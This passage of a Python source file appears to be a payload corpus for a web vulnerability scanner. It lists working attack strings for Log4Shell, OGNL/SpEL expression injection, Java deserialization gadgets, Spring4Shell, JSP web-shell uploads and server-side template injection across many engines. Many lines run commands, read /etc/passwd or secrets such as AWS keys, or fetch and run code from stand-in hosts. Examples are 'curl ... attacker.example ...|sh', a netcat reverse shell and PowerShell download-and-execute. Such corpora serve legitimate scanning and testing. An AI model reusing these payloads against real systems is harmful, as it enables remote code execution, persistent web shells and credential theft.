    ("<map><entry><" + CCF + "InvokerTransformer><iMethodName>exec</iMethodName><iParamTypes>"
     "<java-class>java.lang.String</java-class></iParamTypes><iArgs><string>id</string></iArgs></"
     + CCF + "InvokerTransformer><string>x</string></entry></map>", "xml", "rs-xml"),
    ('["org.apache.commons.dbcp.datasources.SharedPoolDataSource",{"dataSourceName":"ldap://attacker.example/'
     'dbcp"}]', "json-body", "rs-json-body"),
]
# Log4j 2.0-2.14.1 (and 2.15 through the Thread Context): a value logged by a login, audit or access log, or
# later by a log viewer or report job, shaped to pass the field it is typed into first
LOG4SHELL: list[Entry] = [
    "'\"><${jndi:ldap://203.0.113.9:1389/a}",
    "${jndi:ldap://${env:USER}.${hostName}.l4j.oast.example/b}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://l4j.oast.example/c}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9:1099/d}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//l4j.oast.example/e}",
    "${jndi:dns://l4j.oast.example/${sys:java.version}}",
    "${jndi:ldap://127.0.0.1#l4j.oast.example:1389/f}",
    "${${upper:j}ndi:${upper:l}dap://l4j.oast.example/g}",
    ('{"username":"\\u0024\\u007bjndi:ldap://l4j.oast.example/h\\u007d","password":"x"}', "json-body",
     "rs-json-body"),
    "${jndi:ldaps://l4j.oast.example:636/i}",
    "${jndi:iiop://203.0.113.9:1050/j}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://l4j.oast.example/k}",
    "${j${k8s:k5:-ND}i:ldap://l4j.oast.example/l}",
    "${jndi:ldap://${sys:user.name}.${env:HOSTNAME}.l4j.oast.example/m}",
    "admin'-- ${jndi:ldap://l4j.oast.example/n}",
    "<img src=x onerror=alert(1)>${jndi:rmi://203.0.113.9:1099/o}",
    "${jndi:ldap://[::ffff:cb00:7109]:1389/p}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.l4j.oast.example/q}",
    ("${jndi:ldap://l4j.oast.example/r}", "header:X-Api-Version", "rs-header:X-Api-Version"),
    "${${sys:nope:-j}${sys:nope:-n}di:${sys:nope:-ld}ap://l4j.oast.example/s}",
    "${jndi:nis://l4j.oast.example/t}",
    ("Ann ${jndi:ldap://l4j.oast.example/u} <ann@example.org>", "header:User-Agent", "rs-header:User-Agent"),
]
# expression languages: OGNL (Struts, Confluence), SpEL (Spring, Spring Cloud), MVEL, JEXL, JSP/JSF EL,
# Commons Text interpolation; several are valid in two dialects
OGNL_CMD = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
            "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
            "(#p.redirectErrorStream(true)).(#process=#p.start())}")
EXPRESSION_LANGUAGE: list[Entry] = [
    (OGNL_CMD, "header:Content-Type", "rs-header:Content-Type"),
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
     "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}",
     "path", "rs-query"),
    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}",
    "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    ('{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{new String(T(org.springframe'
     'work.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"})'
     '.getInputStream()))}"}}],"uri":"http://example.com"}', "json-body", "rs-json-body"),
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{facesContext.externalContext.redirect('http://attacker.example/jsf')}",
    "#{session.setAttribute('role','admin')}",
    "@{Runtime.getRuntime().exec('id')}",
    "\"\".class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    ("(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']="
     "true)(@java.lang.Runtime@getRuntime().exec('id'))", "param-name", "rs-param-name"),
    ("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")]=x", "raw-form",
     "rs-raw-body"),
    ("queryString=aaa\\u0027%2b#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022java.lang.Runtime\\u0022)"
     ".getMethod(\\u0022getRuntime\\u0022,null).invoke(null,null).exec(\\u0022id\\u0022)}%2b\\u0027",
     "raw-form", "rs-raw-body"),
    "${script:js:new java.lang.ProcessBuilder('id').start()}",
    "${url:UTF-8:http://attacker.example/t4s}",
    "${dns:address|t4s.oast.example}",
    "1' UNION SELECT '${T(java.lang.Runtime).getRuntime().exec(\"id\")}'--",
    "%{#a=new java.lang.ProcessBuilder({'cmd.exe','/c','whoami'}).start()}",
    "${pageContext.request.getSession().getServletContext().getClassLoader()}",
    "'+#{T(java.lang.System).getenv()}+'",
]
# polymorphic binders: fastjson @type, Jackson default typing / @class, XStream, XMLDecoder (WebLogic), the same
# document shaped for two binders, and a stored preference that a job binds later
XMLD_SH = ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\">"
           "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void>"
           "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
           "<void method=\"start\"/></void></java>")
POLYMORPHIC: list[Entry] = [
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.9:1099/fj","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
     'JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/fj47","autoCommit":true}}',
     "json-body", "rs-json-body"),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://attacker.example/L","autoCommit":true}',
     "json-body", "rs-json-body"),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://attacker.example/LL",'
     '"autoCommit":true}', "json-body", "rs-json-body"),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://attacker.example/arr",'
     '"autoCommit":true}', "json-body", "rs-json-body"),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + TRANSLET_CLASS
     + '"],"_name":"t","_tfactory":{},"_outputProperties":{}}', "json-body", "rs-json-body"),
    ('{"x":{"@type":"java.net.Inet4Address","val":"fj.oast.example"}}', "json-body", "rs-json-body"),
    ('{{"@type":"java.net.URL","val":"http://fj2.oast.example"}:0}', "json-body", "rs-json-body"),
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example/jk","autoCommit":true}]',
     "json-body", "rs-json-body"),
    ('{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://attacker.example/xb"}',
     "json-body", "rs-json-body"),
    ('["br.com.anteros.dbcp.AnterosDBCPConfig",{"healthCheckRegistry":"ldap://attacker.example/an"}]',
     "json-body", "rs-json-body"),
    ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string>"
     "<string>curl -s http://attacker.example/xs|sh</string></command></target><action>start</action></handler>"
     "</dynamic-proxy></sorted-set>", "xml", "rs-xml"),
    ("<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
     "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>cmd.exe</string><string>/c"
     "</string><string>whoami</string></command></target><action>start</action></handler></dynamic-proxy>"
     "<string>v</string></entry></tree-map>", "xml", "rs-xml"),
    ('<?xml version="1.0" encoding="UTF-8"?>' + XMLD_SH, "xml", "rs-xml"),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:Work"
     "Context xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">" + XMLD_SH + "</work:WorkContext></soapenv:"
     "Header><soapenv:Body/></soapenv:Envelope>", "xml", "rs-xml"),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
     "</void></object></java>", "xml", "rs-xml"),
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
     '"ldap://attacker.example/both","autoCommit":true}', "json-body", "rs-json-body"),
    (json.dumps({"name": "Ann", "preferences": json.dumps({"@type": "com.sun.rowset.JdbcRowSetImpl",
                                                           "dataSourceName": "ldap://attacker.example/later",
                                                           "autoCommit": True})}), "json-body", "rs-json-body"),
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example/yml\", autoCommit: true}",
]
# class loading: remote and in-memory class definition (URLClassLoader, defineClass in SpEL / Nashorn / Groovy,
# Grape), class-loader property binding (Spring4Shell, CVE-2010-1622), JVM options that load code
S4S = "class.module.classLoader.resources.context.parent.pipeline.first."
CLASS_LOADING: list[Entry] = [
    (S4S + "pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream"
     "%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D&"
     + S4S + "suffix=.jsp&" + S4S + "directory=webapps/ROOT&" + S4S + "prefix=tomcatwar&" + S4S
     + "fileDateFormat=", "raw-form", "rs-raw-body"),
    ("class.classLoader.URLs[0]=jar:http://attacker.example/spring.jar!/", "raw-query", "rs-raw-query"),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x',root='http://attacker.example/m2/')\n"
    "@Grab(group='org.attacker',module='exploit',version='1')\nimport org.attacker.Exploit",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(java.util.Base64).getDecoder()"
    ".decode('" + EXPLOIT_CLASS + "'),T(java.lang.Thread).currentThread().getContextClassLoader()).newInstance()",
    "var b=java.util.Base64.getDecoder().decode(\"" + EXPLOIT_CLASS + "\");var m=java.lang.ClassLoader.class"
    ".getDeclaredMethod(\"defineClass\",java.lang.Class.forName(\"[B\"),java.lang.Integer.TYPE,java.lang.Integer"
    ".TYPE);m.setAccessible(true);m.invoke(java.lang.Thread.currentThread().getContextClassLoader(),b,0,b.length)"
    ".newInstance();",
    "new GroovyClassLoader().defineClass(\"Exploit\",\"" + EXPLOIT_CLASS + "\".decodeBase64()).newInstance()",
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    "java.lang.Class.forName(\"Exploit\",true,new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"file:/var/app/uploads/avatar.jar\")}))",
    ("JAVA_TOOL_OPTIONS=-javaagent:/var/app/uploads/avatar.jar", "raw-form", "rs-raw-body"),
    "-Djava.rmi.server.useCodebaseOnly=false -Djava.rmi.server.codebase=http://attacker.example/cb/",
    ("class.module.classLoader.DefaultAssertionStatus=nonsense", "raw-query", "rs-raw-query"),
    ("class.module.classLoader.resources.context.configFile=http://attacker.example/ctx.xml&class.module."
     "classLoader.resources.context.configFile.content.config=x", "raw-form", "rs-raw-body"),
    "T(java.lang.ClassLoader).getSystemClassLoader().loadClass('javax.script.ScriptEngineManager')"
    ".newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
    "new javax.management.loading.MLet().getMBeansFromURL(\"http://attacker.example/mlet.html\")",
    "sun.misc.Unsafe.getUnsafe().defineAnonymousClass(java.lang.Object.class,java.util.Base64.getDecoder()"
    ".decode(\"" + EXPLOIT_CLASS + "\"),null)",
]
# JSP web shells uploaded as an avatar or attachment: file names that land as JSP on Tomcat/Jetty/WebLogic
# (on Unix or Windows) and file contents that pass an image check yet run as JSP
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"c\"));"
             "out.print(new java.util.Scanner(p.getInputStream()).useDelimiter(\"\\\\A\").next()); %>")
JSP_UPLOAD: list[Entry] = [
    ("avatar.jsp", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jspx", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp.", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp%00.png", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jsp;.png", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\webapps\\ROOT\\s.jsp", "multipart-filename", "rs-multipart-filename"),
    ("../../webapps/ROOT/s.jsp", "multipart-filename", "rs-multipart-filename"),
    ("avatar.JSP", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jspf", "multipart-filename", "rs-multipart-filename"),
    ("../../webapps/s.war", "multipart-filename", "rs-multipart-filename"),
    ("GIF89a;" + JSP_SHELL, "multipart-content", "rs-multipart-content"),
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>Runtime.getRuntime()"
     ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>", "multipart-content", "rs-multipart-content"),
    ("<% out.print(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
     ".useDelimiter(\"\\\\A\").next()); %>", "multipart-content", "rs-multipart-content"),
    ("${Runtime.getRuntime().exec(param.c)}", "multipart-content", "rs-multipart-content"),
    ("%PDF-1.4\n<%=Runtime.getRuntime().exec(request.getParameter(\"c\"))%>", "multipart-content",
     "rs-multipart-content"),
]

# --- ssti ------------------------------------------------------------------------------------------------------
# Jinja2 (Flask): a display name or e-mail subject rendered with render_template_string, closing the HTML first
JINJA2: list[Entry] = [
    "'\"><{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__=='Popen' %}{{c('id',shell=True,"
    "stdout=-1).communicate()}}{% endif %}{% endfor %}",
    "{{config.__class__.__init__.__globals__['os'].environ}}",
    "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}",
    "{{url_for.__globals__.os.system('curl -s http://attacker.example/j2|sh')}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')("
    "'\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|"
    "attr('popen')('id')|attr('read')()}}",
    "${{joiner.__init__.__globals__.os.popen('id').read()}}",
    "{%set x=cycler.__init__.__globals__.os.popen('whoami').read()%}{{x}}",
]
# Twig (Symfony, Craft, Grav): a stored page title or e-mail body compiled as a template
TWIG: list[Entry] = [
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id','']|sort('passthru')}}",
    "{{[0]|reduce('system','curl -s http://attacker.example/tw|sh')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "'\"><{{['whoami']|map('passthru')}}",
    "{% set c = 'id' %}{{ [c]|filter('system')|first }}",
    "{{['cmd.exe /c whoami']|map('shell_exec')|join}}",
]
# FreeMarker (Spring, Confluence, Liferay, Alfresco): a stored template snippet or notification text
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "[#assign ex=\"freemarker.template.utility.Execute\"?new()][=ex(\"id\")]",
    "<#assign oc=\"freemarker.template.utility.ObjectConstructor\"?new()>${oc(\"java.lang.ProcessBuilder\","
    "[\"sh\",\"-c\",\"id\"]).start()}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system(\"id\")</@jy>",
    "Hi ${\"freemarker.template.utility.Execute\"?new()(\"curl -s http://attacker.example/fm|sh\")}",
    "'\"><#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"whoami\")}",
    "<#assign ac=springMacroRequestContext.webApplicationContext>${ac.getBean('dataSource').getConnection()}",
]
# Apache Velocity (Solr, Confluence, Jira plugins): a stored template or a Solr VelocityResponseWriter param
VELOCITY: list[Entry] = [
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "#set($s=\"\")#set($c=$s.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"whoami\"))$c.waitFor()",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#{set}($r=$str.getClass().forName('java.lang.Runtime'))${r.getRuntime().exec('id')}",
    "'\"><#set($x=$request.getClass().forName(\"java.lang.Runtime\"))$x.getRuntime().exec(\"touch /tmp/v\")",
    ("v.template=custom&v.template.custom=%23set($x=%27%27)%23set($rt=$x.class.forName(%27java.lang.Runtime%27))"
     "%23set($ex=$rt.getRuntime().exec(%27id%27))$ex.waitFor()", "raw-query", "rs-raw-query"),
    "$!{str.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
    "#set($e=\"\")$e.class.forName(\"java.lang.ProcessBuilder\").getConstructors()[0].newInstance([[\"sh\",\"-c\","
    "\"id\"]]).start()",
    "#set($f=$x.class.forName('java.nio.file.Files'))$f.readAllLines($x.class.forName('java.nio.file.Paths')"
    ".get('/etc/passwd'))",
]
# Thymeleaf (Spring MVC): view names and fragment selectors built from input, inlined stored text
THYMELEAF: list[Entry] = [
    ("__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x", "path", "rs-query"),
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${@java.lang.Runtime@getRuntime().exec('id')}__",
    ("/doc/__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::main.x", "path", "rs-query"),
    "__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "[[${@environment.getProperty('spring.datasource.password')}]]",
    "'\"><th:block th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"/>",
]
# ERB (Rails, Sinatra): a stored snippet rendered with ERB.new(...).result; the same tag is EJS-shaped too
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines.join %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "'\"><%= %x(whoami) %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= ENV.to_h %>",
    "<%= Rails.application.secret_key_base %>",
    "<%= eval(request.params['c']) %>",
]
# Smarty (PHP CMSs, CVE-2021-26120, CVE-2021-29454): a stored template or a theme field
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{math equation=\"(\\\"" + _octal("system") + "\\\")(\\\"" + _octal("id") + "\\\")\"}",
    "{fetch file='/etc/passwd'}",
    "{include file=\"file:/etc/passwd\"}",
    "'\"><{passthru(\"whoami\")}",
    "{function name='x(){};system(\"id\");function '}{/function}",
]
# Handlebars (Node.js, < 4.6 prototype access): the constructor-from-split chain, in stored e-mail templates
HB_HEAD = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
           "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"")
HB_TAIL = ("\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}"
           "{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    HB_HEAD + "return require('child_process').execSync('id');" + HB_TAIL,
    HB_HEAD + "return process.mainModule.require('child_process').execSync('cat /etc/passwd');" + HB_TAIL,
    HB_HEAD + "return global.process.mainModule.constructor._load('child_process').exec('curl -s http://attacker"
    ".example/hb|sh');" + HB_TAIL,
    HB_HEAD + "return process.platform=='win32'?process.mainModule.require('child_process').execSync('whoami'):"
    "process.mainModule.require('child_process').execSync('id');" + HB_TAIL,
    HB_HEAD + "return JSON.stringify(process.env);" + HB_TAIL,
    HB_HEAD + "return process.mainModule.require('fs').readFileSync('/app/.env','utf8');" + HB_TAIL,
    "'\">" + HB_HEAD + "return process.mainModule.require('child_process').execSync('whoami');" + HB_TAIL,
    HB_HEAD + "return process.mainModule.require('child_process').execSync('nslookup hb.oast.example');" + HB_TAIL,
    HB_HEAD + "return process.kill(process.pid);" + HB_TAIL,
]
# Pug (Node.js): template source built from input (interpolation, code lines, attributes)
PUG: list[Entry] = [
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl -s http://attacker.example/pg|sh')}()}",
    "\n- var x = global.process.mainModule.require('child_process').execSync('id')\n= x",
    "\np= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "!{global.process.mainModule.require('child_process').execSync('whoami')}",
    "\na(href=global.process.mainModule.require('child_process').execSync('id'))",
    "#{JSON.stringify(global.process.env)}",
    "\n- global.process.mainModule.require('child_process').exec('nc 203.0.113.5 4444 -e /bin/sh')",
    "'\">#{global.process.mainModule.require('child_process').execSync('uname -a')}",
]
# Mako (Pyramid, Pylons): a stored snippet compiled with Template(text)
MAKO: list[Entry] = [
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.runtime.util.os.popen('whoami').read()}",
    "\n% for l in open('/etc/passwd'):\n${l}\n% endfor\n",
    "'\"><${__import__('subprocess').getoutput('id')}",
    "${[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0]('id',shell=True)}",
    "<%\nimport urllib.request\nexec(urllib.request.urlopen('http://attacker.example/mk.py').read())\n%>",
]
# Tornado templates: a handler that renders Template(input).generate()
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{ __import__('os').system('id') }}",
    "{% raw __import__('subprocess').check_output('id') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% set x = __import__('os').popen('whoami').read() %}{{x}}",
    "{% from os import popen %}{{ popen('cat /etc/passwd').read() }}",
    "\"><{{__import__('os').popen('uname -a').read()}}",
    "{% module __import__('os').system('curl -s http://attacker.example/tn|sh') %}",
]
# Nunjucks (Node.js, Eleventy): the global functions' Function constructor; some are also JS template literals
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return JSON.stringify(process.env)\")()}}",
    "{{joiner.constructor(\"return this.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")()}}",
    "{% set x = range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")"
    "() %}{{x}}",
    "{{''.constructor.constructor(\"return process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ [].constructor.constructor(\"return process.kill(process.pid)\")() }}",
    "${{range.constructor(\"return process\")().exit()}}",
    "{{ range.constructor(\"return global.process.mainModule.constructor._load('child_process').exec('curl -s "
    "http://attacker.example/nj|sh')\")() }}",
    "'\"><{{range.constructor(\"return global.process.mainModule.require('os').userInfo()\")()|dump}}",
]
# EJS (Node.js/Express): stored template text, and render options smuggled through the query (CVE-2022-29078)
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% global.process.mainModule.constructor._load('child_process').exec('curl -s http://attacker.example/ej|sh')"
    " %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
     "raw-query", "rs-raw-query"),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule"
     ".constructor._load('child_process').execSync('id');", "raw-query", "rs-raw-body"),
    "<%= this.constructor.constructor('return process')().env %>",
    "<%= global.process.mainModule.require('os').userInfo().username %>",
    "<%_ global.process.mainModule.require('child_process').execSync('touch /tmp/ejs') _%>",
    "<%- include('/etc/passwd') %>",
    "'\"><%= global.process.mainModule.require('child_process').execSync('whoami') %>",
]
# Pebble (Spring Boot): a stored page template, Pebble < 3.0.9 and the (1).TYPE bypass
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ request.getServletContext().getAttribute('org.springframework.web.context.WebApplicationContext.ROOT') }}",
    "{% set rt = \"\".class.forName(\"java.lang.Runtime\") %}{{ rt.getRuntime().exec(\"whoami\") }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('curl -s http://attacker.example"
    "/pb') }}",
    "'\"><{{ \"x\".getClass().forName(\"java.lang.System\").getenv() }}",
    "{% include \"/etc/passwd\" %}",
    "{{ request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
    ".invoke(null).exec(\"id\") }}",
]
# Razor (ASP.NET, RazorEngine): a stored template compiled at run time
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-nop -c iwr http://attacker.example/r -useb|iex\"); }",
    "@System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\")",
    "@(new System.Net.WebClient().DownloadString(\"http://attacker.example/rz\"))",
    "@System.Environment.GetEnvironmentVariable(\"ConnectionStrings__Default\")",
    "@{var p=new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c ping -n 1 203.0.113.5\");"
    "System.Diagnostics.Process.Start(p);}",
    "'\"><@(System.Diagnostics.Process.Start(\"/bin/sh\",\"-c id\"))",
    "@System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\")",
    "@Html.Raw(System.IO.File.ReadAllText(\"/app/appsettings.json\"))",
]
# Go text/template and html/template with Sprig, Hugo or gomplate functions, or an Echo/Gin context as data
GO_TEMPLATES: list[Entry] = [
    "{{printf \"%#v\" .}}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ define \"T1\" }}<script>alert(document.domain)</script>{{ end }}{{ template \"T1\" }}",
    "{{ range $k, $v := . }}{{ $k }}={{ $v }} {{ end }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ file.Read \"/proc/self/environ\" }}",
    "'\"><{{ .Request.Header }}",
    "{{ (index .Request.Header \"Authorization\") }}",
]
# Liquid (Jekyll, Shopify-style stores): include traversal, config leaks, nested-loop exhaustion
LIQUID: list[Entry] = [
    "{% include ../../../../etc/passwd %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% for i in (1..99999999) %}{% for j in (1..99999999) %}x{% endfor %}{% endfor %}",
    "{% render '../../config/settings_data' %}",
    "{{ site | jsonify }}",
    "{% assign s = site.data %}{{ s | jsonify }}",
    "'\"><{% include '/etc/passwd' %}",
    "{% capture x %}{% include {{ page.lang }}/../../../../etc/hosts %}{% endcapture %}{{ x }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODEJS),
    ("generic", "nodejs-dos", NODEJS_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
